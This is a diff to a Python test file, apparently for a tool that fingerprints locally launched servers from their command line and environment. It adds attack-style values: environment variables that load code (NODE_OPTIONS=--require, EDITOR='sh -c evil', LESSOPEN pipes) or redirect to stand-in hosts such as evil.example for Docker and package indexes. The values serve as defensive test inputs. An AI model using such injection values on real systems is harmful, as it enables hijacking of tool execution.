@@ -55,6 +55,7 @@ ATTACKS = {
         ["{bin}/docker", "run", "-i", "--rm", "-v", "{project}:/app", IMAGE],
         ["{bin}/docker", "--host", "tcp://evil.example", "run", "-i", "--rm", IMAGE],
         ["{bin}/docker", "run", "-i", "--rm", "-e", "NODE_OPTIONS=--require=/evil.js", IMAGE],
+        ["{bin}/docker", "run", "-i", "--rm", "-e", "SOME_PLUGIN=/data/evil.js", IMAGE],
         ["{bin}/docker", "run", "-i", "--rm", IMAGE, "sh", "-c", "evil"],
     ],
     "python": [
@@ -86,6 +87,8 @@ VARIABLES = {
         "GIT_ASKPASS": "{project}/npx",
         "SSH_ASKPASS": "{project}/npx",
         "GIT_EXTERNAL_DIFF": "{project}/npx",
+        # Of families that no list names: what a value leads to counts.
+        "PUPPETEER_EXECUTABLE_PATH": "{project}/npx",
     },
     "uvx": {
         "UV_INDEX": "https://evil.example/",
@@ -95,6 +98,7 @@ VARIABLES = {
         "PATH": "{project}:/usr/bin:/bin",
         "REQUESTS_CA_BUNDLE": "{project}/npmrc",
         "CURL_CA_BUNDLE": "{project}/npmrc",
+        "FLASK_APP": "evil",
     },
     "docker": {"DOCKER_HOST": "tcp://evil.example", "DOCKER_CONFIG": "{project}"},
     "python": {"PYTHONPATH": "{project}", "PYTHONSTARTUP": "{project}/srv.py", "PYTHONHOME": "{project}"},
@@ -292,6 +296,58 @@ def test_variables_of_the_users_terminal_are_no_other_server_and_any_other_value
     # What another terminal has comes to it, and takes nothing away.
     remember_variables({"PIP_RETRIES": "9"})
     assert identity({**session, "PIP_RETRIES": "9"}) == bare
+
+
+LEADING = {
+    "SOME_SERVERS_SETTINGS": "{project}/evil.js",
+    "SOME_FILE": "here:{project}/evil.js",
+    "SOME_OTHER_FILE": "https://example.com,{project}/evil.js",
+    "RELATIVE": "evil.js",
+    "WHAT_COMES_LATER": "{project}/not-yet-there.mjs",
+    "AWS_CONFIG_FILE": "{project}/npmrc",
+    "SOME_PLUGINS": "evil",
+    "SOME_PLUGIN_DIR": "{project}",
+    "DJANGO_SETTINGS_MODULE": "evil.settings",
+    "SERVER_MODULE_PATH": "{project}",
+    "GTK_PATH": "/usr/lib:{project}",
+    "EDITOR": "sh -c evil",
+    "SHELL": "{project}/npx",
+    "CXX": "make evil",
+    "SOME_BINARY_MIRROR": "https://evil.example/",
+    "EXTRAS": "--require evil",
+    "npm_execpath": "{project}/evil.js",
+    "LESSOPEN": "| {project}/npx %s",
+    "MANY": ":".join(["x/y"] * 70),
+    "PATH": ":/usr/bin:/bin",
+}
+# What shells, desktops, editors and clients have in one session and not in the next, and settings of ordinary servers.
+SESSIONS = [
+    {},
+    {"TERM_PROGRAM": "vscode", "VSCODE_GIT_IPC_HANDLE": "/run/user/1/a.sock", "PWD": "{project}", "_": "{project}/npx"},
+    {"SSH_AUTH_SOCK": "/tmp/ssh-1/agent.1", "TMUX": "/tmp/tmux-1/default,1,0", "XAUTHORITY": "{project}/npmrc"},
+    {"CLAUDE_CODE_ENTRYPOINT": "cli", "WORKSPACE_FOLDER_PATHS": "{project}", "INIT_CWD": "{project}"},
+    {"EDITOR": "env --wait", "SHELL": "/bin/sh", "PAGER": "cat", "LESS": "-R", "LESSOPEN": "| /usr/bin/env %s"},
+    {"ANDROID_HOME": "{project}", "OPENAI_BASE_URL": "https://api.example/v1", "OLLAMA_HOST": "http://localhost:11434"},
+    {"LS_COLORS": "*.sh=01;32", "MAIL": "{project}/npmrc", "LANG": "de_AT.UTF-8", "COLORTERM": "truecolor"},
+    {"DATABASE_URL": "postgres://ann:s3cret@db/a", "AWS_SECRET_ACCESS_KEY": "ab/c+d==", "SLACK_APP_TOKEN": "xapp-1/a"},
+    {"LOG_LEVEL": "debug", "TOOLSETS": "repos,issues", "MEMORY_FILE_PATH": "{project}/memory.json", "SIZE": "12"},
+]
+
+
+def test_variables_of_any_name_that_lead_to_code_and_those_of_another_session(machine):
+    def identity(environ):
+        known = {"PATH": "/usr/bin:/bin", **{name: machine.filled(value) for name, value in environ.items()}}
+        folder = str(machine.places["project"])
+        return command_place("memory", ["uvx", WHEEL], "", None, folder=folder, environ=known).identify("")
+
+    assert len({identity(environ).server_id for environ in SESSIONS}) == 1
+    plain = identity({}).server_id
+    assert [name for name, value in LEADING.items() if identity({name: value}).server_id == plain] == []
+    # What is in the file counts too, and no password is shown.
+    before = identity({"SOME_FILE": LEADING["SOME_FILE"]}).server_id
+    (machine.places["project"] / "evil.js").write_text("more evil\n")
+    assert identity({"SOME_FILE": LEADING["SOME_FILE"]}).server_id != before
+    assert "s3cret" not in repr(identity({"SOME_SCRIPT": "https://ann:s3cret@example.com/"}))
 
 
 def test_what_is_known_to_be_data_may_vary_and_nothing_else(tmp_path, machine):
